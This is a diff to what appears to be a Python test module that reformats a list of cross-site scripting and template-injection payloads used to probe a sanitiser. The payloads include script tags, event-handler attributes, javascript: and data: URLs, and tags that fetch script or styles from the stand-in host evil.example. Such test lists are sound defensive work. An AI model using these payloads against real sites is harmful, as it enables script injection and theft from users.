@@ -19,12 +19,12 @@ _ADDRESSES = (
     "data:image/svg+xml,<svg onload=alert(1)>", "filesystem:http://evil.example/p", "view-source:javascript:alert(1)",
 )  # fmt: skip
 _BREAKS = (
-    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "\"><script>alert(1)</script>",
+    "<script>alert(1)</script>", "</script><script>alert(1)</script>", '"><script>alert(1)</script>',
     "'><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
     "<script src=//evil.example/s.js></script>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
     "<scr<script>ipt>alert(1)</script>", "<link rel=stylesheet href=//evil.example/c.css>", "<base href=//evil.example/>",
     "<meta http-equiv=refresh content='0;url=//evil.example/m'>", "<style>@import '//evil.example/i.css'</style>",
-    "<img src=//evil.example/i.png>", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) x='",
+    "<img src=//evil.example/i.png>", '" onmouseover=alert(1) x="', "' autofocus onfocus=alert(1) x='",
     "`${alert(1)}`", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}", "#{alert(1)}", "<%= alert(1) %>",
     "{{7*7}}", "__proto__", "constructor", "prototype", "<template><script>alert(1)</script></template>",
     "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
@@ -35,4 +35,8 @@ _BREAKS = (
     "\u202ealert(1)", "x" * 5_000,
 )  # fmt: skip
 
-PAYLOADS = (*(f"<{e} {h}=alert(1)>" for e, h in product(_ELEMENTS, _HANDLERS)), *_ADDRESSES, *_BREAKS)
+PAYLOADS = (
+    *(f"<{e} {h}=alert(1)>" for e, h in product(_ELEMENTS, _HANDLERS)),
+    *_ADDRESSES,
+    *_BREAKS,
+)
